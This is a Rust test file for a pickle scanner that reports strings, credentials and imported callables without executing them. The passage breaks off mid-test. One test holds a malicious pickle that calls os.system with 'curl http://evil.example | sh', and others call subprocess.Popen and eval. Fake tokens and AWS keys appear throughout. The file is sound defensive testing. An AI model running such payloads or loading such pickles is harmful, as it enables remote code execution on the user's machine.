//! Pickles built opcode by opcode, and pickles written by `CPython`'s own
//! `pickle` module (`tests/fixtures/pickles`, made by `make_pickles.py`).

use std::io::Read;

use proptest::prelude::*;

use super::opcodes as op;
use super::read;
use crate::limits::{Budget, Limits};
use crate::visitor::{Blob, Notice, NoticeKind, Visitor};

// Fake, well-formed credentials, assembled so this file holds none whole.
const HF_TOKEN: &str = concat!("hf_", "VxKqPzLmWnRtYbGcHdJf", "NsQaEuIoTkXlMv");
const AWS_KEY_ID: &str = concat!("AKIA", "W7RZQ3MXNB5KTYLP");
const AWS_SECRET: &str = concat!("tY8w+Qe3Lr", "Zp7Xk2Nv/Bc5Hm9Jd4Fs6Gu1Wa0Ri3");

/// Everything a reader reports, in order.
#[derive(Default)]
struct Record {
    fields: Vec<(String, Vec<u8>)>,
    texts: Vec<(Option<String>, Vec<u8>)>,
    notices: Vec<Notice>,
}

impl Visitor for Record {
    fn text(&mut self, field: Option<&str>, text: &mut dyn Read) {
        let mut body = Vec::new();
        text.read_to_end(&mut body).unwrap();
        self.texts.push((field.map(str::to_owned), body));
    }

    fn field(&mut self, path: &str, value: &[u8]) {
        self.fields.push((path.to_owned(), value.to_vec()));
    }

    fn member(&mut self, name: &str, _blob: Blob<'_>, _size: Option<u64>) {
        panic!("a pickle has no members, got {name}");
    }

    fn notice(&mut self, notice: Notice) {
        self.notices.push(notice);
    }
}

impl Record {
    /// Fields as text, globals included.
    fn pairs(&self) -> Vec<(String, String)> {
        self.fields
            .iter()
            .map(|(p, v)| (p.clone(), String::from_utf8_lossy(v).into_owned()))
            .collect()
    }

    /// Fields other than the imported names.
    fn values(&self) -> Vec<(String, String)> {
        self.pairs()
            .into_iter()
            .filter(|(p, _)| !p.ends_with("/globals"))
            .collect()
    }

    fn value(&self, path: &str) -> Option<String> {
        self.pairs()
            .into_iter()
            .find(|(p, _)| p == path)
            .map(|(_, v)| v)
    }

    fn globals(&self) -> Vec<String> {
        self.pairs()
            .into_iter()
            .filter(|(p, _)| p == "pickle/globals")
            .map(|(_, v)| v)
            .collect()
    }

    fn kinds(&self) -> Vec<NoticeKind> {
        self.notices.iter().map(|n| n.kind).collect()
    }

    fn message(&self, kind: NoticeKind) -> String {
        self.notices.iter().find(|n| n.kind == kind).map_or_else(
            || panic!("no {kind:?} notice in {:?}", self.notices),
            |n| n.message.clone(),
        )
    }
}

fn scan_reader(name: &str, reader: &mut dyn Read, limits: Limits) -> Record {
    let mut record = Record::default();
    read(name, reader, &mut record, &Budget::new(limits));
    record
}

fn scan(bytes: &[u8]) -> Record {
    scan_reader("test.pkl", &mut &*bytes, Limits::default())
}

fn pairs(expected: &[(&str, &str)]) -> Vec<(String, String)> {
    expected
        .iter()
        .map(|&(p, v)| (p.to_owned(), v.to_owned()))
        .collect()
}

/// Writes pickle opcodes.
#[derive(Default, Clone)]
struct B(Vec<u8>);

impl B {
    fn proto(version: u8) -> Self {
        B(vec![op::PROTO, version])
    }

    fn op(&mut self, code: u8) -> &mut Self {
        self.0.push(code);
        self
    }

    fn raw(&mut self, bytes: &[u8]) -> &mut Self {
        self.0.extend_from_slice(bytes);
        self
    }

    /// A `str` as `BINUNICODE` (protocol 1 and later).
    fn s(&mut self, text: &str) -> &mut Self {
        self.binunicode(text.as_bytes())
    }

    fn binunicode(&mut self, bytes: &[u8]) -> &mut Self {
        self.op(op::BINUNICODE)
            .raw(&(bytes.len() as u32).to_le_bytes())
            .raw(bytes)
    }

    /// A `str` as `SHORT_BINUNICODE` (protocol 4 and later).
    fn s4(&mut self, text: &str) -> &mut Self {
        let len = u8::try_from(text.len()).unwrap();
        self.op(op::SHORT_BINUNICODE)
            .raw(&[len])
            .raw(text.as_bytes())
    }

    /// A `str` as protocol 0's `UNICODE` line.
    fn u0(&mut self, text: &str) -> &mut Self {
        self.op(op::UNICODE);
        for c in text.chars() {
            match u32::from(c) {
                0x5c | 0x0a => self.raw(format!("\\u{:04x}", u32::from(c)).as_bytes()),
                code @ 0..=0xff => self.raw(&[code as u8]),
                code @ 0x100..=0xffff => self.raw(format!("\\u{code:04x}").as_bytes()),
                code => self.raw(format!("\\U{code:08x}").as_bytes()),
            };
        }
        self.raw(b"\n")
    }

    fn int(&mut self, n: i32) -> &mut Self {
        self.op(op::BININT).raw(&n.to_le_bytes())
    }

    fn global(&mut self, module: &str, name: &str) -> &mut Self {
        self.op(op::GLOBAL)
            .raw(module.as_bytes())
            .raw(b"\n")
            .raw(name.as_bytes())
            .raw(b"\n")
    }

    fn stack_global(&mut self, module: &str, name: &str) -> &mut Self {
        self.s4(module).s4(name).op(op::STACK_GLOBAL)
    }

    fn put(&mut self, key: u8) -> &mut Self {
        self.op(op::BINPUT).raw(&[key])
    }

    fn get(&mut self, key: u8) -> &mut Self {
        self.op(op::BINGET).raw(&[key])
    }

    fn len8(&mut self, code: u8, len: u64) -> &mut Self {
        self.op(code).raw(&len.to_le_bytes())
    }

    fn stop(&mut self) -> Vec<u8> {
        self.op(op::STOP);
        self.0.clone()
    }
}

/// `body` in one protocol 4 or 5 frame.
fn framed(version: u8, body: &[u8]) -> Vec<u8> {
    let mut out = vec![op::PROTO, version, op::FRAME];
    out.extend_from_slice(&(body.len() as u64).to_le_bytes());
    out.extend_from_slice(body);
    out
}

/// What `pickle.dumps(TrainingArguments(...), protocol=2)` writes, in
/// short: `NEWOBJ` of the class, a state dict, `BUILD`.
fn training_args_p2() -> Vec<u8> {
    let mut b = B::proto(2);
    b.global("transformers.training_args", "TrainingArguments")
        .put(0)
        .op(op::EMPTY_TUPLE)
        .op(op::NEWOBJ)
        .put(1)
        .op(op::EMPTY_DICT)
        .put(2)
        .op(op::MARK)
        .s("output_dir")
        .s("/home/asmith/runs/exp1")
        .s("logging_dir")
        .s("/home/asmith/runs/exp1/logs")
        .s("learning_rate")
        .op(op::BINFLOAT)
        .raw(&5e-5f64.to_be_bytes())
        .s("hub_token")
        .s(HF_TOKEN)
        .put(3)
        .s("push_to_hub_token")
        .get(3)
        .s("report_to")
        .op(op::EMPTY_LIST)
        .op(op::MARK)
        .s("wandb")
        .s("tensorboard")
        .op(op::APPENDS)
        .s("evaluation_strategy")
        .global("transformers.trainer_utils", "IntervalStrategy")
        .s("steps")
        .op(op::TUPLE1)
        .op(op::REDUCE)
        .s("run_name")
        .s("")
        .op(op::SETITEMS)
        .op(op::BUILD)
        .stop()
}

fn training_args_fields() -> Vec<(String, String)> {
    pairs(&[
        ("pickle/output_dir", "/home/asmith/runs/exp1"),
        ("pickle/logging_dir", "/home/asmith/runs/exp1/logs"),
        ("pickle/hub_token", HF_TOKEN),
        ("pickle/push_to_hub_token", HF_TOKEN),
        ("pickle/report_to[0]", "wandb"),
        ("pickle/report_to[1]", "tensorboard"),
        ("pickle/evaluation_strategy", "steps"),
        (
            "pickle/globals",
            "transformers.training_args.TrainingArguments",
        ),
        (
            "pickle/globals",
            "transformers.trainer_utils.IntervalStrategy",
        ),
    ])
}

/// The same object as protocol 4 writes it: `STACK_GLOBAL`, `MEMOIZE`,
/// short strings, one frame.
fn training_args_p4(version: u8) -> Vec<u8> {
    let mut b = B::default();
    b.stack_global("transformers.training_args", "TrainingArguments")
        .op(op::MEMOIZE)
        .op(op::EMPTY_TUPLE)
        .op(op::NEWOBJ)
        .op(op::MEMOIZE)
        .op(op::EMPTY_DICT)
        .op(op::MEMOIZE)
        .op(op::MARK)
        .s4("output_dir")
        .s4("/home/asmith/runs/exp1")
        .s4("logging_dir")
        .s4("/home/asmith/runs/exp1/logs")
        .s4("hub_token")
        .s4(HF_TOKEN)
        .op(op::MEMOIZE)
        .s4("push_to_hub_token")
        .get(3)
        .s4("report_to")
        .op(op::EMPTY_LIST)
        .op(op::MEMOIZE)
        .op(op::MARK)
        .s4("wandb")
        .s4("tensorboard")
        .op(op::APPENDS)
        .s4("evaluation_strategy")
        .stack_global("transformers.trainer_utils", "IntervalStrategy")
        .s4("steps")
        .op(op::TUPLE1)
        .op(op::REDUCE)
        .op(op::SETITEMS)
        .op(op::BUILD)
        .op(op::STOP);
    framed(version, &b.0)
}

/// `{"env": {"AWS_SECRET_ACCESS_KEY": ..., "HOME": ...}, "note": ...}` as
/// protocol 0 text.
fn env_p0() -> Vec<u8> {
    let mut b = B::default();
    b.raw(b"(dp0\n")
        .u0("env")
        .raw(b"p1\n(dp2\n")
        .u0("AWS_ACCESS_KEY_ID")
        .raw(b"p3\n")
        .u0(AWS_KEY_ID)
        .raw(b"p4\ns")
        .u0("AWS_SECRET_ACCESS_KEY")
        .raw(b"p5\n")
        .u0(AWS_SECRET)
        .raw(b"p6\ns")
        .u0("HOME")
        .raw(b"p7\n")
        .u0("/home/asmith")
        .raw(b"p8\nss")
        .u0("note")
        .raw(b"p9\n")
        .u0("caf\u{e9} \\ line1\nline2")
        .raw(b"s")
        .raw(b"S'py2 \\'str\\''\np10\n")
        .raw(b"I42\nsL12345678901234567890L\nI01\ns")
        .stop()
}

#[test]
fn protocol_0_text_pickle() {
    let record = scan(&env_p0());
    // Numbers are not reported, even under a key read from a quoted
    // Python 2 literal.
    assert_eq!(
        record.values(),
        pairs(&[
            ("pickle/env/AWS_ACCESS_KEY_ID", AWS_KEY_ID),
            ("pickle/env/AWS_SECRET_ACCESS_KEY", AWS_SECRET),
            ("pickle/env/HOME", "/home/asmith"),
        ])
    );
    // A value with several lines is text, line by line.
    assert_eq!(
        record.texts,
        [(
            Some("pickle/note".to_owned()),
            "caf\u{e9} \\ line1\nline2".as_bytes().to_vec()
        )]
    );
    assert!(record.notices.is_empty(), "{:?}", record.notices);
    assert!(record.globals().is_empty());
}

#[test]
fn protocol_2_training_arguments() {
    let record = scan(&training_args_p2());
    assert_eq!(record.pairs(), training_args_fields());
    assert!(record.notices.is_empty(), "{:?}", record.notices);
}

#[test]
fn protocols_4_and_5_with_frames() {
    for version in [4, 5] {
        let record = scan(&training_args_p4(version));
        assert_eq!(record.pairs(), training_args_fields(), "protocol {version}");
        assert!(record.notices.is_empty(), "{:?}", record.notices);
    }
}

#[test]
fn protocol_5_buffers() {
    let mut b = B::default();
    b.op(op::EMPTY_DICT)
        .op(op::MARK)
        .s4("log")
        .len8(op::BYTEARRAY8, 17)
        .raw(b"HOME=/home/asmith")
        .op(op::READONLY_BUFFER)
        .s4("blob")
        .op(op::SHORT_BINBYTES)
        .raw(&[4, 0, 1, 2, 3])
        .s4("out_of_band")
        .op(op::NEXT_BUFFER)
        .s4("ext")
        .op(op::EXT2)
        .raw(&[1, 0])
        .op(op::SETITEMS)
        .op(op::STOP);
    let record = scan(&framed(5, &b.0));
    assert_eq!(
        record.pairs(),
        pairs(&[("pickle/log", "HOME=/home/asmith")])
    );
    assert!(record.notices.is_empty(), "{:?}", record.notices);
}

#[test]
fn pytorch_persistent_ids_are_skipped() {
    let mut b = B::proto(2);
    b.global("collections", "OrderedDict")
        .put(0)
        .op(op::EMPTY_TUPLE)
        .op(op::REDUCE)
        .put(1)
        .op(op::MARK)
        .s("encoder.weight")
        .global("torch._utils", "_rebuild_tensor_v2")
        .put(2)
        .op(op::MARK)
        .op(op::MARK)
        .s("storage")
        .global("torch", "FloatStorage")
        .s("0")
        .s("cpu")
        .op(op::BININT1)
        .raw(&[4])
        .op(op::TUPLE)
        .op(op::BINPERSID)
        .op(op::BININT1)
        .raw(&[0])
        .op(op::BININT1)
        .raw(&[2])
        .op(op::BININT1)
        .raw(&[2])
        .op(op::TUPLE2)
        .op(op::BININT1)
        .raw(&[2])
        .op(op::BININT1)
        .raw(&[1])
        .op(op::TUPLE2)
        .op(op::NEWFALSE)
        .get(0)
        .op(op::EMPTY_TUPLE)
        .op(op::REDUCE)
        .op(op::TUPLE)
        .op(op::REDUCE)
        .op(op::SETITEMS)
        // The state dict's `_metadata`, set through BUILD.
        .op(op::EMPTY_DICT)
        .s("_metadata")
        .get(0)
        .op(op::EMPTY_TUPLE)
        .op(op::REDUCE)
        .op(op::MARK)
        .s("")
        .op(op::EMPTY_DICT)
        .s("version")
        .op(op::BININT1)
        .raw(&[1])
        .op(op::SETITEM)
        .op(op::SETITEMS)
        .op(op::SETITEM)
        .op(op::BUILD);
    let bytes = b.stop();
    let mut record = Record::default();
    read(
        "model/data.pkl",
        &mut &bytes[..],
        &mut record,
        &Budget::new(Limits::default()),
    );
    assert!(record.values().is_empty(), "{:?}", record.values());
    assert_eq!(
        record.globals(),
        [
            "collections.OrderedDict",
            "torch._utils._rebuild_tensor_v2",
            "torch.FloatStorage"
        ]
    );
    assert!(record.notices.is_empty(), "{:?}", record.notices);
}

#[test]
fn a_list_that_contains_itself() {
    // l = ["x", l, {"self": d}] where d contains itself too.
    let mut b = B::proto(2);
    b.op(op::EMPTY_LIST)
        .put(0)
        .op(op::MARK)
        .s("x")
        .get(0)
        .op(op::EMPTY_DICT)
        .put(1)
        .s("self")
        .get(1)
        .op(op::SETITEM)
        .s("token")
        .s(HF_TOKEN)
        .op(op::SETITEM)
        .op(op::APPENDS);
    let record = scan(&b.stop());
    assert_eq!(
        record.pairs(),
        pairs(&[("pickle[0]", "x"), ("pickle[2]/token", HF_TOKEN)])
    );
    assert!(record.notices.is_empty());
}

#[test]
fn os_system_is_reported_not_run() {
    let record = scan(b"cos\nsystem\n(S'curl http://evil.example | sh'\ntR.");
    assert_eq!(
        record.pairs(),
        pairs(&[
            ("pickle", "curl http://evil.example | sh"),
            ("pickle/globals", "os.system"),
        ])
    );
    assert_eq!(record.kinds(), [NoticeKind::Unsupported]);
    assert_eq!(
        record.message(NoticeKind::Unsupported),
        "this pickle would call os.system when loaded: not executed"
    );

    // posix.system through STACK_GLOBAL, subprocess through INST,
    // builtins.eval: each named once, however often it is imported.
    let mut b = B::default();
    b.op(op::MARK)
        .stack_global("posix", "system")
        .s4("id")
        .op(op::TUPLE1)
        .op(op::REDUCE)
        .op(op::MARK)
        .s4("ls")
        .op(op::INST)
        .raw(b"subprocess\nPopen\n")
        .stack_global("builtins", "eval")
        .s4("1+1")
        .op(op::TUPLE1)
        .op(op::REDUCE)
        .stack_global("posix", "system")
        .op(op::LIST);
    let record = scan(&framed(4, &b.stop()));
    assert_eq!(
        record.globals(),
        ["posix.system", "subprocess.Popen", "builtins.eval"]
    );
    let messages: Vec<_> = record.notices.iter().map(|n| n.message.as_str()).collect();
    assert_eq!(
        messages,
        [
            "this pickle would call posix.system when loaded: not executed",
            "this pickle would call subprocess.Popen when loaded: not executed",
            "this pickle would call builtins.eval when loaded: not executed",
        ]
    );
    assert_eq!(
        record.values(),
        pairs(&[
            ("pickle[0]", "id"),
            ("pickle[1]", "ls"),
            ("pickle[2]", "1+1")
        ])
    );
}

#[test]
fn every_prefix_is_cut_short_cleanly() {
    let whole = [
        env_p0(),
        training_args_p2(),
        training_args_p4(5),
        joblib_pickle(),
    ];
    for bytes in &whole {
        for len in 0..bytes.len() {
            let record = scan(&bytes[..len]);
            let corrupt = record
                .notices
                .iter()
                .filter(|n| n.kind == NoticeKind::Corrupt)
                .count();
            assert_eq!(corrupt, 1, "prefix of {len} bytes: {:?}", record.notices);
        }
    }
}

#[test]
fn what_was_found_before_a_break_is_reported() {
    // Cut just before SETITEMS: the pending keys and values still pair up.
    let whole = training_args_p2();
    let cut = whole.iter().rposition(|&b| b == op::SETITEMS).unwrap();
    let record = scan(&whole[..cut]);
    assert_eq!(record.value("pickle/hub_token").as_deref(), Some(HF_TOKEN));
    assert_eq!(
        record.value("pickle/output_dir").as_deref(),
        Some("/home/asmith/runs/exp1")
    );
    assert!(
        record
            .message(NoticeKind::Corrupt)
            .contains("ends without a STOP opcode"),
        "{:?}",
        record.notices
    );

    // An unknown opcode in the middle.
    let mut bytes = whole[..cut].to_vec();
    let at = bytes.len();
    bytes.push(0xff);
    let record = scan(&bytes);
    assert_eq!(record.value("pickle/hub_token").as_deref(), Some(HF_TOKEN));
    let message = record.message(NoticeKind::Corrupt);
    assert!(
        message.contains(&format!("unknown opcode 0xff at offset {at}")),
        "{message}"
    );
    assert_eq!(
        record.globals(),
        [
            "transformers.training_args.TrainingArguments",
            "transformers.trainer_utils.IntervalStrategy"
        ]
    );
}

#[test]
fn damaged_stacks() {
    for (bytes, expected) in [
        (
            &b"\x80\x02a."[..],
            "APPEND at offset 2 takes a value from an empty stack",
        ),
        (&b"\x80\x02e."[..], "APPENDS at offset 2 has no MARK"),
        (&b"\x80\x02(a."[..], "APPEND at offset 3 takes a value"),
        (&b"\x80\x02)u."[..], "SETITEMS at offset 3 has no MARK"),
        (&b"."[..], "STOP at offset 0 takes a value"),
        (&b"\x80\x02N(."[..], "STOP at offset 4 takes a value"),
        (
            &b"\x80\x02h\x07."[..],
            "BINGET at offset 2: memo key 7 was never stored",
        ),
        (
            &b"\x80\x02(K\x01K\x02K\x03d."[..],
            "DICT at offset 9: 3 values where keys and values should pair up",
        ),
        (
            &b"\x80\x02K\x01K\x02a."[..],
            "APPEND at offset 6: adds items to an int",
        ),
        (
            &b"\x80\x02K\x01K\x02b."[..],
            "BUILD at offset 6: sets the state of an int",
        ),
        (&b"\x80\x02NN\x93."[..], "STACK_GLOBAL at offset 4"),
        (&b"S'unquoted\n."[..], "STRING at offset 0"),
        (&b"\x80\x02\xff"[..], "unknown opcode 0xff at offset 2"),
        (&b""[..], "the file is empty"),
    ] {
        let record = scan(bytes);
        let message = record.message(NoticeKind::Corrupt);
        assert!(message.contains(expected), "{bytes:?}: {message}");
    }
    let record = scan(b"\x80\x06N.");
    assert!(
        record
            .message(NoticeKind::Unsupported)
            .contains("pickle protocol 6")
    );
}

#[test]
fn hostile_lengths() {
    let mut b = B::proto(4);
    b.len8(op::BINUNICODE8, 1 << 63).raw(b"abc");
    let record = scan(&b.0);
    assert_eq!(record.kinds(), [NoticeKind::Corrupt]);
    assert_eq!(
        record.message(NoticeKind::Corrupt),
        "BINUNICODE8 at offset 2: a length of 9223372036854775808 bytes, \
         more than any file holds; the pickle is read up to there"
    );

    for code in [op::BINBYTES8, op::BYTEARRAY8, op::BINUNICODE8] {
        let mut b = B::proto(5);
        b.len8(code, 1 << 40).raw(b"abc");
        let message = scan(&b.0).message(NoticeKind::Corrupt);
        assert!(
            message.contains(&format!("{} at offset 2 runs past the end", op::name(code))),
            "{message}"
        );
    }
    for bytes in [
        &b"\x80\x02X\xff\xff\xff\xffabc"[..],
        b"\x80\x02T\xff\xff\xff\xffabc",
        b"\x80\x02\x8b\xff\xff\xff\xffabc",
        b"\x80\x02\x8b\xff\xff\xff\x7fabc",
        b"\x80\x02B\xff\xff\xff\xffabc",
    ] {
        let record = scan(bytes);
        assert_eq!(record.kinds(), [NoticeKind::Corrupt], "{bytes:?}");
    }
    assert!(
        scan(b"\x80\x02T\xff\xff\xff\xffabc")
            .message(NoticeKind::Corrupt)
            .contains("negative length")
    );

    // A frame's length is only a hint; huge memo keys are fine.
    let mut b = B::default();
    b.op(op::PROTO)
        .raw(&[4])
        .len8(op::FRAME, u64::MAX)
        .s4("kept")
        .op(op::LONG_BINPUT)
        .raw(&u32::MAX.to_le_bytes())
        .op(op::POP)
        .op(op::LONG_BINGET)
        .raw(&u32::MAX.to_le_bytes());
    let record = scan(&b.stop());
    assert_eq!(record.pairs(), pairs(&[("pickle", "kept")]));
    assert!(record.notices.is_empty());
}

#[test]
fn the_stack_is_capped() {
    let mut bytes = vec![op::PROTO, 2];
    bytes.extend(std::iter::repeat_n(op::NONE, (1 << 20) + 10));
    bytes.push(op::STOP);
    let record = scan(&bytes);
    assert!(
        record
            .message(NoticeKind::Limit)
            .contains("more than 1048576 values on the pickle stack")
    );
}

#[test]
fn deep_nesting_is_bounded() {
    let depth = 100_000;
    let mut bytes = vec![op::PROTO, 2];
    bytes.extend(std::iter::repeat_n(op::EMPTY_LIST, depth));
    let mut b = B(bytes);
    b.s("deepest");
    b.0.extend(std::iter::repeat_n(op::APPEND, depth));
    b.op(op::POP);
    // Another root-level value after the deep one is still reported.
    b.raw(&[op::EMPTY_LIST]).s("shallow").op(op::APPEND);
    let record = scan(&b.stop());
    assert_eq!(record.pairs(), pairs(&[("pickle[0]", "shallow")]));

    let mut bytes = vec![op::PROTO, 2];
    bytes.extend(std::iter::repeat_n(op::EMPTY_LIST, depth));
    let mut b = B(bytes);
    b.s("deepest");
    b.0.extend(std::iter::repeat_n(op::APPEND, depth - 1));
    let record = scan(&b.stop());
    assert!(record.fields.is_empty());
    assert!(
        record
            .message(NoticeKind::Limit)
            .contains("nested more than 100 deep")
    );

    // MARKs nested without end.
    let mut bytes = vec![op::PROTO, 2];
    bytes.extend(std::iter::repeat_n(op::MARK, depth));
    bytes.push(op::STOP);
    assert!(
        scan(&bytes)
            .message(NoticeKind::Corrupt)
            .contains("STOP at offset 100002")
    );
}

#[test]
fn deep_calls_fit_a_small_stack() {
    // f(f(f(...f("deepest")...))) and {"k": {"k": ...}}, 10,000 deep, walked
    // on a thread with a quarter of a megabyte of stack.
    let depth = 10_000;
    let mut b = B::proto(2);
    for _ in 0..depth {
        b.global("m", "f");
    }
    b.s("deepest");
    for _ in 0..depth {
        b.op(op::TUPLE1).op(op::REDUCE);
    }
    let calls = b.stop();
    let mut b = B::proto(2);
    for _ in 0..depth {
        b.op(op::EMPTY_DICT).s("k");
    }
    b.s("deepest");
    for _ in 0..depth {
        b.op(op::SETITEM);
    }
    let dicts = b.stop();
    let records = std::thread::Builder::new()
        .stack_size(256 * 1024)
        .spawn(move || (scan(&calls), scan(&dicts)))
        .unwrap()
        .join()
        .unwrap();
    for record in [records.0, records.1] {
        assert_eq!(record.values(), []);
        assert!(
            record
                .message(NoticeKind::Limit)
                .contains("nested more than 100 deep")
        );
    }
}

#[test]
fn invalid_utf8_is_passed_on() {
    let mut b = B::proto(2);
    b.op(op::EMPTY_DICT)
        .binunicode(b"key\xff")
        .binunicode(b"value \xc3\x28 \xed\xa0\x80")
        .op(op::SETITEM);
    let record = scan(&b.stop());
    assert_eq!(
        record.fields,
        [(
            "pickle/key\u{fffd}".to_owned(),
            b"value \xc3\x28 \xed\xa0\x80".to_vec()
        )]
    );
}

#[test]
fn dict_keys_read_as_python_writes_them() {
    let mut b = B::proto(2);
    b.op(op::EMPTY_DICT)
        .op(op::MARK)
        .int(7)
        .s("seven")
        .op(op::NONE)
        .s("none")
        .op(op::NEWTRUE)
        .s("true")
        .s("a")
        .int(1)
        .op(op::TUPLE2)
        .s("tuple")
        .s("line\nbreak")
        .s("escaped")
        .s(&"k".repeat(500))
        .s("long")
        .global("enum", "Flag")
        .s("class")
        .op(op::SETITEMS);
    let record = scan(&b.stop());
    let long_key = format!("pickle/{}…", "k".repeat(200));
    assert_eq!(
        record.values(),
        pairs(&[
            ("pickle/7", "seven"),
            ("pickle/None", "none"),
            ("pickle/True", "true"),
            ("pickle/(a, 1)", "tuple"),
            ("pickle/line\\nbreak", "escaped"),
            (long_key.as_str(), "long"),
            ("pickle/enum.Flag", "class"),
        ])
    );
}

#[test]
fn well_known_calls_read_as_in_python() {
    let mut b = B::proto(2);
    b.op(op::EMPTY_DICT)
        .op(op::MARK)
        // bytes in protocols 0 to 2: _codecs.encode(text, "latin1").
        .s("latin1_text")
        .global("_codecs", "encode")
        .put(0)
        .s("token=abc \u{e9}")
        .s("latin1")
        .op(op::TUPLE2)
        .op(op::REDUCE)
        .s("latin1_binary")
        .get(0)
        .s("\u{0}\u{1}\u{2}\u{3}\u{ff}")
        .s("latin1")
        .op(op::TUPLE2)
        .op(op::REDUCE)
        // pathlib paths are pickled as their parts.
        .s("data_dir")
        .global("pathlib", "PosixPath")
        .op(op::MARK)
        .s("/")
        .s("home")
        .s("asmith")
        .s("data")
        .op(op::TUPLE)
        .op(op::REDUCE)
        // OrderedDict([[key, value], ...]).
        .s("ordered")
        .global("collections", "OrderedDict")
        .op(op::MARK)
        .op(op::MARK)
        .s("password")
        .s("hunter2")
        .op(op::LIST)
        .op(op::LIST)
        .op(op::TUPLE1)
        .op(op::REDUCE)
        // argparse.Namespace, as protocols 0 and 1 write an object.
        .s("args")
        .global("copy_reg", "_reconstructor")
        .global("argparse", "Namespace")
        .global("__builtin__", "object")
        .op(op::NONE)
        .op(op::TUPLE3)
        .op(op::REDUCE)
        .op(op::EMPTY_DICT)
        .s("api_key")
        .s("sk-not-a-real-one")
        .op(op::SETITEM)
        .op(op::BUILD)
        // A class with __slots__: (None, {slot: value}).
        .s("slots")
        .global("app", "Config")
        .op(op::EMPTY_TUPLE)
        .op(op::NEWOBJ)
        .op(op::NONE)
        .op(op::EMPTY_DICT)
        .s("endpoint")
        .s("http://model-builder.internal.corp:8080")
        .op(op::SETITEM)
        .op(op::TUPLE2)
        .op(op::BUILD)
        // Keyword arguments of NEWOBJ_EX.
        .s("kw")
        .global("app", "Client")
        .op(op::EMPTY_TUPLE)
        .op(op::EMPTY_DICT)
        .s("user")
        .s("asmith")
        .op(op::SETITEM)
        .op(op::NEWOBJ_EX)
        // Several arguments are numbered.
        .s("call")
        .global("app", "connect")
        .s("db.internal")
        .int(5432)
        .s("admin")
        .op(op::TUPLE3)
        .op(op::REDUCE)
        // A defaultdict: its items are set on the object.
        .s("counts")
        .global("collections", "defaultdict")
        .global("builtins", "int")
        .op(op::TUPLE1)
        .op(op::REDUCE)
        .s("user")
        .s("root")
        .op(op::SETITEM)
        .op(op::SETITEMS);
    let record = scan(&b.stop());
    assert_eq!(
        record.values(),
        pairs(&[
            ("pickle/latin1_text", "token=abc \u{fffd}"),
            ("pickle/data_dir", "/home/asmith/data"),
            ("pickle/ordered/password", "hunter2"),
            ("pickle/args/api_key", "sk-not-a-real-one"),
            (
                "pickle/slots/endpoint",
                "http://model-builder.internal.corp:8080"
            ),
            ("pickle/kw/user", "asmith"),
            ("pickle/call[0]", "db.internal"),
            ("pickle/call[2]", "admin"),
            ("pickle/counts/user", "root"),
        ])
    );
    // Latin-1 text is passed on as the bytes it stands for.
    assert_eq!(
        record.fields.first().map(|(_, v)| v.as_slice()),
        Some(&b"token=abc \xe9"[..])
    );
    assert_eq!(
        record.message(NoticeKind::Skipped),
        "1 binary payload(s) of 6 bytes in all not read: array or tensor data, not text"
    );
}

#[test]
fn sets_and_windows_paths() {
    let mut b = B::proto(4);
    b.op(op::EMPTY_DICT)
        .op(op::MARK)
        .s4("hosts")
        .op(op::EMPTY_SET)
        .op(op::MARK)
        .s4("db.internal")
        .op(op::ADDITEMS)
        .s4("frozen")
        .op(op::MARK)
        .s4("cache.internal")
        .op(op::FROZENSET)
        .s4("home")
        .stack_global("pathlib", "PureWindowsPath")
        .s4("C:\\")
        .s4("Users")
        .s4("asmith")
        .op(op::TUPLE3)
        .op(op::REDUCE)
        .op(op::SETITEMS);
    let record = scan(&framed(4, &b.stop()));
    assert_eq!(
        record.values(),
        pairs(&[
            ("pickle/hosts[0]", "db.internal"),
            ("pickle/frozen[0]", "cache.internal"),
            ("pickle/home", "C:\\Users\\asmith"),
        ])
    );
}

#[test]
fn keyword_calls_of_protocol_2() {
    // What protocol 2 writes for a class with `__getnewargs_ex__`:
    // partial(getattr(cls, "__new__")) with the state (f, args, kwargs,
    // dict), then called.
    let mut b = B::proto(2);
    b.op(op::EMPTY_DICT)
        .s("client")
        .global("functools", "partial")
        .global("__builtin__", "getattr")
        .global("app", "Client")
        .put(0)
        .s("__new__")
        .op(op::TUPLE2)
        .op(op::REDUCE)
        .put(1)
        .op(op::TUPLE1)
        .op(op::REDUCE)
        .op(op::MARK)
        .get(1)
        .get(0)
        .s("db.internal")
        .op(op::TUPLE2)
        .op(op::EMPTY_DICT)
        .s("password")
        .s("hunter2")
        .op(op::SETITEM)
        .op(op::NONE)
        .op(op::TUPLE)
        .op(op::BUILD)
        .op(op::EMPTY_TUPLE)
        .op(op::REDUCE)
        .op(op::SETITEM);
    let record = scan(&b.stop());
    assert_eq!(
        record.values(),
        pairs(&[
            ("pickle/client[1]", "db.internal"),
            ("pickle/client/password", "hunter2"),
        ])
    );
    assert_eq!(
        record.globals(),
        ["functools.partial", "__builtin__.getattr", "app.Client"]
    );
}

#[test]
fn torchscript_debug_info_yields_paths_and_source() {
    let source = "def forward(self, x):\n    y = self.linear(x)\n    return y\n";
    let mut b = B::proto(2);
    b.op(op::MARK)
        .int(0)
        .s(source)
        .put(0)
        .s("/home/asmith/train.py")
        .put(1)
        .int(12)
        .op(op::TUPLE3)
        .int(0)
        .int(40)
        .op(op::TUPLE3)
        .s("")
        .op(op::TUPLE3)
        .int(41)
        .get(0)
        .get(1)
        .int(12)
        .op(op::TUPLE3)
        .int(41)
        .int(60)
        .op(op::TUPLE3)
        .s("")
        .op(op::TUPLE3)
        .op(op::TUPLE);
    let bytes = b.stop();
    let mut record = Record::default();
    read(
        "model/code/__torch__.py.debug_pkl",
        &mut &bytes[..],
        &mut record,
        &Budget::new(Limits::default()),
    );
    assert_eq!(
        record.values(),
        pairs(&[
            ("pickle[0][1][0][1]", "/home/asmith/train.py"),
            ("pickle[1][1][0][1]", "/home/asmith/train.py"),
        ])
    );
    // Source text is short enough to be reported wherever it is used.
    assert_eq!(
        record.texts,
        [
            (
                Some("pickle[0][1][0][0]".to_owned()),
                source.as_bytes().to_vec()
            ),
            (
                Some("pickle[1][1][0][0]".to_owned()),
                source.as_bytes().to_vec()
            ),
        ]
    );
}

#[test]
fn long_repeated_strings_are_reported_once() {
    let long = "x".repeat(5000);
    let mut b = B::proto(2);
    b.op(op::MARK)
        .s(&long)
        .put(0)
        .get(0)
        .get(0)
        .s("short")
        .put(1)
        .get(1)
        .op(op::LIST);
    let record = scan(&b.stop());
    assert_eq!(
        record.pairs(),
        pairs(&[
            ("pickle[0]", long.as_str()),
            ("pickle[3]", "short"),
            ("pickle[4]", "short")
        ])
    );
}

#[test]
fn long_strings_are_cut_at_max_segment() {
    let limits = Limits {
